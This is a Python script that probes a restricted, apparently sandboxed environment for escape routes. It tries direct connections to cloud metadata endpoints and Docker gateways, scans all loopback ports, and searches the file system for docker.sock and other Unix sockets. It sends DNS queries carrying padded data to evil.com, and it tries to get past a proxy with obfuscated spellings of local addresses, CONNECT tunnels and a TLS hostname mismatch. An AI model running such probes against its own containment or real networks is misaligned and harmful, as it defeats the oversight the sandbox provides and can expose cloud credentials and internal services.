"""Looks for a way out: addresses, names, ports, the proxy's gaps. Prints what it found, JSON.

Arguments: the port that somebody on the host listens on, and the host's addresses.
"""

import errno
import json
import os
import random
import socket
import ssl
import stat
import struct
import sys

PORT = int(sys.argv[1])
HOSTS = sys.argv[2:]
PROXY = ("127.0.0.1", 3128)
PRIVATE = [
    "169.254.169.254", "169.254.170.2", "100.100.100.200", "172.17.0.1", "172.18.0.1", "10.0.0.1",
    "10.0.2.2", "192.168.0.1", "192.168.65.2", "192.168.127.1", "8.8.8.8", "1.1.1.1", "224.0.0.1",
    "255.255.255.255", "fd00:ec2::254", "2606:4700:4700::1111", "fe80::1", "ff02::1",
    "::ffff:8.8.8.8",
]  # fmt: skip


def connect(host, port, kind=socket.SOCK_STREAM):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect((host, port))
        if kind == socket.SOCK_DGRAM:
            one.send(b"x")
        return True


def tried(function, *arguments):
    try:
        return function(*arguments)
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)


def direct():
    """Every address that comes to mind, TCP and UDP."""
    found = {}
    for host in PRIVATE + HOSTS:
        for port in (53, 80, 443, PORT):
            found[f"{host} {port}"] = tried(connect, host, port)
            found[f"{host} {port} udp"] = tried(connect, host, port, socket.SOCK_DGRAM)
    for host in ("127.0.0.1", "::1", "0.0.0.0", "localhost", "host.docker.internal", "sandbox"):
        found[f"{host} {PORT}"] = tried(connect, host, PORT)
    return {key: value for key, value in found.items() if value is True}


def listening():
    """Every port of the loopback network, by trying."""
    found = []
    for port in range(1, 65536):
        with socket.socket() as one:
            # A socket whose own number happens to be tried connects to itself.
            if one.connect_ex(("127.0.0.1", port)) == 0 and one.getsockname()[1] != port:
                found.append(port)
    return found


def unix_sockets():
    """In the file system, and without a name in it."""
    lines = open("/proc/net/unix").readlines()[1:]
    found = [line.split()[-1] for line in lines if "/" in line or "@" in line]
    for root, folders, names in os.walk("/"):
        if root == "/":
            folders[:] = [each for each in folders if each not in ("proc", "sys", "usr")]
        for name in names:
            path = os.path.join(root, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode) or name == "docker.sock":
                    found.append(path)
            except OSError:
                continue
    return found


def ask(name, kind=1, *, is_tcp=False):
    """What the only name server answers."""
    number = random.randrange(65536)
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    question = struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + labels + struct.pack(">xHH", kind, 1)
    if is_tcp:
        with socket.create_connection(("127.0.0.1", 53), timeout=5) as one:
            one.sendall(len(question).to_bytes(2, "big") + question)
            answer = one.recv(4096)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(5)
            one.sendto(question, ("127.0.0.1", 53))
            answer = one.recv(4096)
    count = struct.unpack_from(">H", answer, 6)[0]
    return ".".join(str(each) for each in answer[-4:]) if count else "nothing"


def names():
    data = "a" * 60
    found = {}
    for name in (
        "example.com",
        "localhost",
        f"{data}.{data}.{data}.evil.com",
        "metadata.google.internal",
    ):
        found[f"{name[:30]} A"] = ask(name)
        found[f"{name[:30]} A tcp"] = ask(name, is_tcp=True)
        for kind in (5, 12, 15, 16, 28, 33, 255):
            found[f"{name[:30]} {kind}"] = ask(name, kind)
    return found


def talk(data):
    """Say something to the proxy; the first line that it answers."""
    with socket.create_connection(PROXY, timeout=20) as one:
        one.sendall(data)
        answer = one.recv(65536)
    return answer.split(b"\r\n")[0].decode("latin-1")


def head(target, host):
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


def tunnel(where, host):
    """Ask for a connection, and say something over it; the first line that answers that."""
    with socket.create_connection(PROXY, timeout=20) as one:
        one.sendall(f"CONNECT {where} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        answer = one.recv(65536)
        if answer.startswith(b"HTTP/1.1 200"):
            one.sendall(head("/", host))
            answer = one.recv(65536)
    return answer.split(b"\r\n")[0].decode("latin-1")


def through_the_proxy():
    """By all names that an address has."""
    found = {}
    spelled = [
        "localhost", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::1]", "0.0.0.0",
        "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "127.0.0.1.nip.io", "169.254.169.254",
        "[fd00:ec2::254]", "metadata.google.internal", "host.docker.internal", "172.17.0.1",
        "user@127.0.0.1", *HOSTS,
    ]  # fmt: skip
    for host in spelled:
        for port in (80, 443, PORT):
            found[f"CONNECT {host}:{port}"] = tunnel(f"{host}:{port}", f"{host}:{port}")
        found[f"GET {host}"] = talk(head(f"http://{host}/", host))
        found[f"GET {host}:{PORT}"] = talk(head(f"http://{host}:{PORT}/", f"{host}:{PORT}"))
        found[f"Host {host}"] = talk(head("http://example.com/", host))
    return found


def by_another_name():
    """Allowed by CONNECT, another host in TLS: whether a handshake with it succeeds."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    found = {}
    for host in ("127.0.0.1", "evil.example", *HOSTS[:1]):
        with socket.create_connection(PROXY, timeout=20) as one:
            one.sendall(
                b"CONNECT allowed.example:443 HTTP/1.1\r\nHost: allowed.example:443\r\n\r\n"
            )
            agreed = one.recv(4096)
            try:
                with context.wrap_socket(one, server_hostname=host) as inner:
                    inner.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                    found[host] = inner.recv(4096).split(b"\r\n")[0].decode("latin-1")
            except OSError as error:
                found[host] = f"{agreed[:12]!r} {type(error).__name__}"
        with socket.create_connection(("127.0.0.1", 443), timeout=20) as one:
            try:
                with context.wrap_socket(one, server_hostname=host) as inner:
                    inner.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                    found[f"443 {host}"] = inner.recv(4096).split(b"\r\n")[0].decode("latin-1")
            except OSError as error:
                found[f"443 {host}"] = type(error).__name__
    return found


print(
    json.dumps(
        {
            "direct": direct(),
            "listening": listening(),
            "sockets": unix_sockets(),
            "names": names(),
            "proxy": through_the_proxy(),
            "fronting": by_another_name(),
        }
    )
)
